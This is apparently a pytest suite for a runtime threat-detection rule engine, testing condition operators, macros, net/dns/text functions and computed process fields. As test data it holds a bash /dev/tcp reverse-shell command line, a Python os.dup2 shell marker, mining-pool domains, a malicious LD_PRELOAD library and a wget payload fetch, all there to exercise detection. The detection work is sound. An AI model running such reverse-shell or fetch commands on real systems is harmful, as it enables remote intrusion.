"""The condition language: operators, lists, macros, functions and computed fields."""

from __future__ import annotations

from typing import Any

import pytest

from schemas.codec import decode_event
from schemas.records import Event
from streams.rules import ConditionError, EvalContext
from streams.rules.condition import Compiler
from streams.rules.functions import FUNCTIONS

LISTS: dict[str, list[Any]] = {
    "shells": ["bash", "sh"],
    "more_shells": ["shells", "zsh"],
    "tmp": ["/tmp", "/dev/shm/"],
    "ports": [443, 6443],
    "pools": ["nanopool.org", "supportxmr.com"],
    "markers": ["/dev/tcp/", "os.dup2("],
    "ok_libs": ["/usr/lib*/libjemalloc.so*"],
    "cidrs": ["10.96.0.0/12", "169.254.169.254"],
}
MACROS = {
    "spawned": "kind = process_exec",
    "shell": "process.name in (shells)",
    "shell_spawned": "spawned and shell",
    "loop_a": "loop_b and spawned",
    "loop_b": "loop_a",
    "broken": "process.nope = 1",
}


def compiler() -> Compiler:
    return Compiler(LISTS, MACROS, FUNCTIONS)


def ev(kind: str = "process_exec", **blocks: Any) -> Event:
    data: dict[str, Any] = {"event_id": "e1", "time": 1, "source": "ebpf", "kind": kind, **blocks}
    data.setdefault(
        "workload", {"namespace": "payments", "pod": "api-1", "container": "api", "container_id": "c1"}
    )
    return decode_event(data)


SHELL = ev(process={"exe": "/bin/bash", "args": ["bash", "-i"], "uid": 0, "tty": True, "env": {"LANG": "C"}})


def holds(condition: str, event: Event = SHELL, **ctx: Any) -> bool:
    return bool(compiler().compile(condition)(EvalContext(event=event, **ctx)))


# -- operators ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("process.exe = /bin/bash", True),
        ('process.exe = "/bin/sh"', False),
        ("process.exe != /bin/sh", True),
        ("process.uid = 0", True),
        ("process.uid < 1", True),
        ("process.uid <= 0", True),
        ("process.uid > 0", False),
        ("process.uid >= 0", True),
        ("process.exe startswith /bin/", True),
        ("process.exe endswith sh", True),
        ("process.cmdline contains '-i'", True),
        ("process.exe icontains BIN/BA", True),
        ("process.exe contains BIN", False),
        ('process.exe glob "/bin/*sh"', True),
        ('process.exe glob "/usr/*"', False),
        ("process.exe pmatch (/bin)", True),
        ("process.exe pmatch (/bi)", False),
        ("process.exe in (/bin/bash, /bin/sh)", True),
        ("process.name in (shells)", True),
        ("process.env.LANG exists", True),
        ("process.env.LD_PRELOAD exists", False),
        ("process.tty", True),
        ("process.stdio_socket", False),
        ("network.dst_port = 443", False),
        ("network.dst_ip != 1.2.3.4", True),  # absent block: != holds, = does not
        ("true", True),
    ],
)
def test_comparison_operators(condition: str, expected: bool) -> None:
    assert holds(condition) is expected


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("spawned and process.uid = 1", False),
        ("spawned or process.uid = 1", True),
        ("not process.uid = 1", True),
        ("not not process.tty", True),
        # and binds tighter than or
        ("process.uid = 1 and process.tty or spawned", True),
        ("process.uid = 1 and (process.tty or spawned)", False),
    ],
)
def test_boolean_logic_and_precedence(condition: str, expected: bool) -> None:
    assert holds(condition) is expected


def test_numbers_compare_as_numbers_and_strings_as_strings() -> None:
    conn = ev("net_connect", network={"dst_ip": "10.0.0.1", "dst_port": 8443})
    assert holds("network.dst_port > 1000", conn)  # 8443 > 1000, not "8443" > "1000" by luck
    assert holds("network.dst_port < 10000", conn)  # as strings "8443" < "10000" is false
    assert holds("network.dst_port in (ports, 8443)", conn)
    assert not holds("network.dst_port in (ports)", conn)


def test_list_fields_compare_element_wise() -> None:
    e = ev(process={"exe": "/bin/sh", "args": ["sh", "/tmp/x.sh", "--flag"]})
    assert holds("process.args pmatch (tmp)", e)
    assert holds("process.args in (--flag)", e)
    assert holds('process.args glob "*.sh"', e)
    assert not holds("process.args in (--other)", e)


def test_lists_nest_and_mix_with_literals() -> None:
    zsh = ev(process={"exe": "/usr/bin/zsh"})
    assert holds("process.name in (more_shells)", zsh)
    assert holds("process.name in (more_shells)", SHELL)
    assert holds("process.name in (fish, shells)", SHELL)
    assert compiler().expand_list("more_shells") == ["bash", "sh", "zsh"]


def test_a_list_that_contains_itself_is_an_error() -> None:
    c = Compiler({"a": ["b"], "b": ["a"]}, {}, FUNCTIONS)
    with pytest.raises(ConditionError, match="refers to itself"):
        c.compile("process.name in (a)")


def test_pmatch_is_a_path_prefix_not_a_string_prefix() -> None:
    for path, expected in [
        ("/dev/shm/x", True),
        ("/dev/shm", True),
        ("/tmpfoo/x", False),
        ("/tmp/a/b", True),
    ]:
        assert holds("process.exe pmatch (tmp)", ev(process={"exe": path})) is expected, path


def test_quoted_strings_keep_operator_characters() -> None:
    e = ev(process={"exe": "/bin/bash", "args": ["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1"]})
    assert holds('process.cmdline contains "0>&1"', e)
    assert holds("process.cmdline contains '>& /dev/tcp'", e)


# -- macros ------------------------------------------------------------------------------------


def test_macros_expand_and_nest() -> None:
    assert holds("shell_spawned")
    assert holds("shell and not spawned") is False
    assert not holds("shell_spawned", ev(process={"exe": "/usr/bin/python3"}))


def test_a_macro_cycle_is_an_error_naming_the_path() -> None:
    with pytest.raises(ConditionError, match=r"refers to itself \(loop_a -> loop_b -> loop_a\)"):
        compiler().compile("loop_a")


def test_an_error_inside_a_macro_names_the_macro() -> None:
    with pytest.raises(ConditionError, match=r"in macro 'broken'.*unknown field 'process\.nope'"):
        compiler().compile("spawned and broken")


def test_a_misspelt_macro_is_an_error_not_a_true_constant() -> None:
    with pytest.raises(ConditionError, match="unknown macro or field 'spawnd'"):
        compiler().compile("spawnd and shell")


# -- syntax errors -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("condition", "message"),
    [
        ("process.exe = ", "expected a field, value or function"),
        ("process.exe in (a, b", "unclosed list"),
        ("(spawned", r"expected '\)'"),
        ("spawned shell", "unexpected 'shell'"),
        ("process.exe = /bin/sh !", "unexpected character"),
        ("nosuch.fn(process.exe)", "unknown function 'nosuch.fn'"),
        ("and spawned", "expected a condition"),
        ("process.exee = x", "unknown field 'process.exee'"),
    ],
)
def test_syntax_errors_say_where(condition: str, message: str) -> None:
    with pytest.raises(ConditionError, match=message):
        compiler().compile(condition)


# -- functions ---------------------------------------------------------------------------------


def conn(ip: str, port: int = 443) -> Event:
    return ev("net_connect", network={"dst_ip": ip, "dst_port": port})


@pytest.mark.parametrize(
    ("ip", "private", "loopback", "in_cidrs"),
    [
        ("10.96.0.1", True, False, True),
        ("169.254.169.254", True, False, True),
        ("127.0.0.1", True, True, False),
        ("::ffff:10.96.0.1", True, False, True),  # IPv4-mapped IPv6 is its IPv4 address
        ("34.116.205.187", False, False, False),
        ("not-an-ip", False, False, False),
    ],
)
def test_net_functions(ip: str, private: bool, loopback: bool, in_cidrs: bool) -> None:
    e = conn(ip)
    assert holds("net.private(network.dst_ip)", e) is private
    assert holds("net.loopback(network.dst_ip)", e) is loopback
    assert holds("net.in(network.dst_ip, (cidrs))", e) is in_cidrs


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("nanopool.org", True),
        ("xmr-eu1.nanopool.org", True),
        ("XMR-EU1.NANOPOOL.ORG.", True),
        ("mynanopool.org", False),
        ("nanopool.org.example.com", False),
    ],
)
def test_dns_under(query: str, expected: bool) -> None:
    assert holds("dns.under(dns.query, (pools))", ev("dns_query", dns={"query": query})) is expected


def test_text_functions() -> None:
    e = ev(process={"exe": "/usr/bin/python3", "args": ["python3", "-c", "import os; os.dup2(3, 0)"]})
    assert holds("text.contains_any(process.cmdline, (markers))", e)
    assert not holds("text.contains_any(process.cmdline, (markers))")
    assert holds('text.glob_any(process.args, ("*dup2*", "nothing"))', e)
    assert not holds('text.glob_any(process.args, ("*nothing*"))', e)
    preload = ev(
        process={"exe": "/bin/ls", "env": {"LD_PRELOAD": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"}}
    )
    mixed = ev(process={"exe": "/bin/ls", "env": {"LD_PRELOAD": "/usr/lib/libjemalloc.so.2 /tmp/evil.so"}})
    assert holds("text.glob_all(process.ld_preload, (ok_libs))", preload)
    assert not holds("text.glob_all(process.ld_preload, (ok_libs))", mixed)
    # no values: vacuously true, so rules pair it with `exists`
    assert holds("text.glob_all(process.ld_preload, (ok_libs))")


class _State:
    def __init__(self, written: set[str]) -> None:
        self.paths = written

    def written(self, event: Event, path: str) -> bool:
        return path in self.paths


class _Baseline:
    def __init__(self, ready: bool, execs: set[str]) -> None:
        self._ready = ready
        self.execs = execs

    def ready(self) -> bool:
        return self._ready

    def seen_exec(self, event: Event) -> bool:
        return event.process is not None and event.process.exe in self.execs


def test_state_and_baseline_functions_go_through_the_context() -> None:
    assert holds("state.written(process.exe)", state=_State({"/bin/bash"}))
    assert not holds("state.written(process.exe)", state=_State({"/bin/sh"}))
    assert not holds("state.written(process.exe)")  # no state: nothing was written
    # without a ready baseline everything counts as seen: anomaly rules stay quiet while learning
    assert holds("baseline.seen_exec()")
    assert holds("baseline.seen_exec()", baseline=_Baseline(False, set()))
    assert not holds("baseline.seen_exec()", baseline=_Baseline(True, set()))
    assert holds("baseline.seen_exec()", baseline=_Baseline(True, {"/bin/bash"}))
    assert holds("baseline.ready()", baseline=_Baseline(True, set()))
    assert not holds("baseline.ready()")


def test_state_repeats_counts_events_reaching_it_within_the_window() -> None:
    from streams.detect import DetectState

    state = DetectState()
    pred = compiler().compile("process.uid = 0 and state.repeats(burst, process.exe, 60) >= 3")

    def at(seconds: int, uid: int = 0) -> bool:
        event = ev(process={"exe": "/bin/bash", "uid": uid})
        event.time = seconds * 1_000_000_000
        return bool(pred(EvalContext(event=event, state=state)))

    assert [at(0), at(10), at(20, uid=1000), at(30)] == [False, False, False, True]
    assert at(200) is False  # the window moved on: one event counted
    assert holds("state.repeats(burst, process.exe, 60) = 1")  # no detect state: every event is its first


# -- computed fields ---------------------------------------------------------------------------


def value(path: str, event: Event) -> Any:
    return compiler().compile_value(path)(EvalContext(event=event))


def test_process_computed_fields() -> None:
    busybox = ev(
        process={"exe": "/bin/busybox", "comm": "wget", "args": ["wget", "-qO-", "http://1.2.3.4/x"]}
    )
    assert value("process.name", busybox) == "busybox"
    assert value("process.name", ev(process={"comm": "kworker"})) == "kworker"
    assert value("process.cmdline", busybox) == "wget -qO- http://1.2.3.4/x"
    assert value("process.argc", busybox) == 3
    long = ev(process={"exe": "/bin/sh", "args": ["sh", "-c", "x" * 200]})
    assert len(value("process.cmdline_short", long)) == 80 and value("process.cmdline_short", long).endswith(
        "..."
    )
    assert (
        value("process.parent_name", ev(process={"exe": "/bin/sh", "parent_exe": "/usr/bin/runc"})) == "runc"
    )


@pytest.mark.parametrize(
    ("args", "url", "host"),
    [
        (
            ["curl", "-fsSL", "https://Get.Example.com:8443/i.sh"],
            "https://Get.Example.com:8443/i.sh",
            "get.example.com",
        ),
        (["curl", "-o", "/tmp/k", "transfer.sh/get/x"], "transfer.sh/get/x", "transfer.sh"),
        (["wget", "http://[::1]:8080/healthz"], "http://[::1]:8080/healthz", "::1"),
        (["curl", "--version"], None, None),
        (["curl"], None, None),
    ],
)
def test_process_url(args: list[str], url: str | None, host: str | None) -> None:
    e = ev(process={"exe": "/usr/bin/curl", "args": args})
    assert value("process.url", e) == url
    assert value("process.url_host", e) == host


def test_ld_preload_entries() -> None:
    e = ev(process={"exe": "/bin/ls", "env": {"LD_PRELOAD": "/a.so:/b.so  /c.so"}})
    assert value("process.ld_preload", e) == ["/a.so", "/b.so", "/c.so"]
    assert value("process.ld_preload", SHELL) is None


def test_file_and_workload_computed_fields() -> None:
    f = ev("file_open", file={"path": "/var/run/secrets/kubernetes.io/serviceaccount/token"})
    assert value("file.name", f) == "token"
    assert value("file.dir", f) == "/var/run/secrets/kubernetes.io/serviceaccount"
    assert value("workload.label", SHELL) == "payments/api-1 container api"
    host = decode_event(
        {"event_id": "e", "time": 1, "source": "ebpf", "kind": "process_exec", "node": "worker-2"}
    )
    assert value("workload.label", host) == "host worker-2"
    assert value("workload.in_container", SHELL) is True and value("workload.is_host", host) is True
    assert value("workload.key", SHELL) == "/payments/Pod/api-1"
